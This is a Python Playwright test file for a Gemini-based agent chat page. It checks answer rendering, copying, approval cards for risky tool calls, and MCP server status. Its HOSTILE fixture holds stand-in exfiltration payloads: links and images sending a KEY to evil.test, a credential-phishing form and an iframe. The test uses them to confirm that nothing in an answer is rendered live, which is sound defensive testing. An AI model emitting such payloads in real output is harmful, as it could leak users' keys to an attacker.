"""The agent's tools on the page: footnotes, formatted words, a click before something risky, their servers."""

from __future__ import annotations

import json
import re
import sys
import time
from pathlib import Path
from typing import Any

from playwright.sync_api import Locator, Page, expect

from tests.mcp_server import rogue
from tests.page import PageProcess
from tests.page.hands import begin_anew, composer, expect_rest, open_page, say
from tests.page.journeys import on, step
from tests.wire_server import GeminiProcess

SEARCH = {"kind": "Call", "name": "web_search", "args": {"query": "When was the bridge opened?"}}
FOUND = {
    "kind": "Search",
    "facts": {"facts": [{"item": "Opened in 1937", "source": "example.org"}], "prompt_draft": ""},
}
FOREIGN = "https://elsewhere.example/?all=we+said"
RICH = """It opened in 1937 [1].

| bridge | year |
| --- | --- |
| Golden Gate | 1937 |

$$E = mc^2$$

```python
print("hello")
```
"""


def words(text: str) -> dict[str, Any]:
    return {"kind": "Text", "text": text}


def permit_search(page: Page) -> None:
    page.get_by_role("checkbox", name="Search").check(force=True)


def ask_to_overwrite(page: Page, gemini: GeminiProcess, content: str) -> Locator:
    """Have the agent want to overwrite a file after a search, and return the card that asks."""

    def write(text: str) -> dict[str, Any]:
        return {"kind": "Call", "name": "write_file", "args": {"name": "plan.md", "content": text}}

    gemini.control(clear=True, on_text=[write("short"), words("Saved."), SEARCH, FOUND, write(content), words("Done.")])
    begin_anew(page)
    permit_search(page)
    say(page, "save a plan")
    expect(page.locator("#chat")).to_contain_text("Saved.")
    expect_rest(page)
    say(page, "look it up and save it")
    card = page.get_by_role("group", name="Allow this?")
    expect(card).to_contain_text("plan.md")
    return card


HOSTILE = """**Bold**, a [link](http://evil.test/y?d=KEY) and ![x](http://evil.test/x?d=KEY).

1. one
2. two
   - inner

| a | b |
| --- | --: |
| 1 | 2 |

```mermaid
graph TD
  A["<input placeholder='Gemini key'><form action='http://evil.test'><button>Go</button></form>"]
```

$$
```
$$ <input> ![](http://evil.test/z)
```

```html
<select><option>x</option></select> <iframe src="http://evil.test"></iframe>
```

Inline `<input>`, \\(a<b\\), <details open><summary>x</summary><textarea></textarea></details> THE END"""


ANSWER = (
    "# Title\n\nSo **it** *is* `<b>`, see [this](https://a.test/b).\nNext line: \\(a<b\\)\n\n"
    "1. one\n2. two\n   - inner\n\n"
    "| a | b |\n| --- | --: |\n| 1 | 2 |\n\n> quoted\n\n```python\nprint('$$')\n\n\nx = '\\['\n```\n\n$$E = mc^2$$"
)


def test_what_a_tool_may_do_is_asked_word_for_word_and_an_answer_is_drawn_and_copied_and_nothing_of_it_is_live(
    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
) -> None:
    open_page(page, gemini_studio.url)
    with step("what was found has footnotes, and tables, formulas and code are drawn"):
        gemini.control(clear=True, on_text=[SEARCH, FOUND, words(RICH)])
        permit_search(page)
        say(page, "when was the bridge opened?")
        expect_rest(page)
        note = page.locator("#chat .bot a", has_text="¹")
        expect(note).to_have_attribute("href", "https://vertexaisearch.cloud.google.com/redirect/1")
        expect(page.locator("#chat .sources sup")).to_have_text("1")
        expect(page.locator("#chat .bot table td").first).to_have_text("Golden Gate")
        expect(page.locator("#chat .bot math").first).to_be_visible()
        expect(page.locator("#chat .bot pre code")).to_contain_text('print("hello")')
    with step("nothing in an answer is live, whatever it is fenced as"):
        gemini.control(clear=True, on_text=[words(HOSTILE)])
        begin_anew(page)
        say(page, "```mermaid\ngraph TD; A[<input>]\n``` <form><input></form>?")
        expect(page.locator("#chat")).to_contain_text("THE END")
        expect_rest(page)
        answer = page.locator("#chat .md")
        expect(answer.locator("input, form, select, textarea, iframe, img, details, .mermaid, svg")).to_have_count(0)
        expect(answer.locator("button:not(.copy-code, [data-branch=copy])")).to_have_count(0)
        expect(answer.locator("pre code.language-mermaid").last).to_contain_text("<input placeholder='Gemini key'>")
        expect(answer.locator("pre code.language-html")).to_contain_text('<iframe src="http://evil.test">')
        expect(answer.locator("a")).to_have_text(["http://evil.test/y?d=KEY"])
        expect(answer.locator("math")).to_have_count(1)
        expect(answer.last).to_contain_text("[image: evil.test]")
    with step("copy gives an answer as Markdown, and code as it is"):
        gemini.control(clear=True, on_text=[words(ANSWER)])
        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        begin_anew(page)
        say(page, "tell me")
        expect(page.locator("#chat .md math")).to_have_count(2)
        expect_rest(page)
        page.locator("#chat .bot .md").last.hover()
        page.get_by_role("button", name="Copy message").last.click()
        expected = ANSWER.replace("[this](https://a.test/b)", "this (https://a.test/b)")
        page.wait_for_function("text => navigator.clipboard.readText().then(copied => copied === text)", arg=expected)
        page.get_by_role("button", name="Copy this code").click()
        code = "print('$$')\n\n\nx = '\\['"
        page.wait_for_function("text => navigator.clipboard.readText().then(copied => copied === text)", arg=code)
        page.context.clear_permissions()
    assert gemini.read("violations") == []
    with step("an address that nobody named waits for a click, over a reload too"):
        read = {"kind": "Call", "name": "read_url", "args": {"url": FOREIGN}}
        gemini.control(clear=True, on_text=[SEARCH, FOUND, read, words("I left it alone.")])
        begin_anew(page)
        permit_search(page)
        say(page, "look it up")
        card = page.get_by_role("group", name="Allow this?")
        expect(card).to_contain_text("read_url")
        expect(card).to_contain_text(FOREIGN)
        expect(page).to_have_url(re.compile(r"\?c=\w{8,}"))
        page.reload()
        expect(card.get_by_role("button", name="Allow", exact=True)).to_be_enabled()
        card.get_by_role("button", name="Don’t allow").click()
        expect(page.locator("#chat")).to_contain_text("I left it alone.")
        expect(page.locator("#chat")).to_contain_text("Not allowed")
        expect_rest(page)
        answered = json.dumps(gemini.read("requests")[-1]["body"])
        assert "did not allow it" in answered
    with step("words that were sent come back with Up, and the draft with Down"):
        box = composer(page)
        box.fill("a draft\nof two lines")
        box.press("ArrowUp")
        expect(box).to_have_value("a draft\nof two lines")
        box.press("ArrowUp")
        expect(box).to_have_value("look it up")
        box.press("ArrowUp")
        box.press("ArrowDown")
        box.press("ArrowDown")
        expect(box).to_have_value("a draft\nof two lines")
        box.dispatch_event("compositionstart")
        box.evaluate("area => area.setSelectionRange(0, 0)")
        box.dispatch_event("keydown", {"key": "ArrowUp", "isComposing": True, "bubbles": True})
        expect(box).to_have_value("a draft\nof two lines")
        box.fill("")
    with step("a long call can be allowed once its end was in sight"):
        content = "".join(f"line {number} \u202e of many\n" for number in range(4_200)) + "THE VERY END"
        assert len(content) > 80_000
        card = ask_to_overwrite(page, gemini, content)
        allow, region = (
            card.get_by_role("button", name="Allow", exact=True),
            card.get_by_role("region", name="Complete arguments"),
        )
        expect(card.get_by_role("status")).to_be_visible()
        expect(allow).to_be_disabled()
        expect(card.get_by_role("button", name="Don’t allow")).to_be_enabled()
        expect(region).to_contain_text("THE VERY END")
        expect(region).to_contain_text("line 0 U+202E of many")
        page.reload()
        expect(allow).to_be_disabled()
        region.focus()
        page.keyboard.press("PageDown")
        expect(allow).to_be_disabled()
        page.keyboard.press("End")
        expect(allow).to_be_enabled()
        expect(card.get_by_role("status")).to_be_hidden()
        page.keyboard.press("Home")
        page.keyboard.press("Tab")
        expect(allow).to_be_focused()
        page.keyboard.press("Enter")
        expect(page.locator("#chat")).to_contain_text("Done.")
        expect_rest(page)
        expect(page.locator("#chat")).to_contain_text("Allowed")
    with step("a hundred thousand characters are scrolled through with the wheel"):
        card = ask_to_overwrite(page, gemini, "x" * 100_000 + " THE VERY END")
        allow, region = (
            card.get_by_role("button", name="Allow", exact=True),
            card.get_by_role("region", name="Complete arguments"),
        )
        expect(allow).to_be_disabled()
        assert region.evaluate("one => one.scrollWidth <= one.clientWidth"), "long lines are wrapped"
        region.hover()
        for _ in range(200):
            page.mouse.wheel(0, 2_000)
            if region.evaluate("one => one.scrollTop + one.clientHeight >= one.scrollHeight - 1"):
                break
        expect(allow).to_be_enabled()
        card.get_by_role("button", name="Don’t allow").click()
        expect(page.locator("#chat")).to_contain_text("Not allowed")
        expect_rest(page)


def opened(page: Page) -> Locator:
    """Open the settings and return the lines of the servers."""
    dialog = page.get_by_role("dialog", name="Settings")
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    on(page, "#rail").button("rail.settings").click()
    # It is asked for each time, and shown when it has come; until then its former lines are there, unseen.
    expect(dialog).to_be_visible()
    lines = page.locator("#s-servers li")
    expect(lines).to_have_count(2)
    return lines


def test_the_dialog_tells_of_servers_as_they_are_when_it_is_opened(page: Page, tmp_path: Path) -> None:
    (tmp_path / "mcp.toml").write_text(
        f"[servers.rogue]\ncommand = {json.dumps(sys.executable)}\nargs = {json.dumps(rogue().args)}\n"
        '[servers.absent]\ncommand = "/nowhere/mcp-server"\n',
        "utf-8",
    )
    with PageProcess(home=tmp_path) as studio:
        open_page(page, studio.url)
        expect(opened(page).first).to_contain_text("Connects with the next message.")
        page.keyboard.press("Escape")
        say(page, "hello")
        expect_rest(page)
        # A server is connected beside the turns, and the dialog tells what was so when it was opened.
        until = time.monotonic() + 60
        while "1 tool" not in opened(page).first.inner_text() and time.monotonic() < until:
            page.wait_for_timeout(100)
        expect(opened(page)).to_contain_text(["1 tool", "Cannot start"])
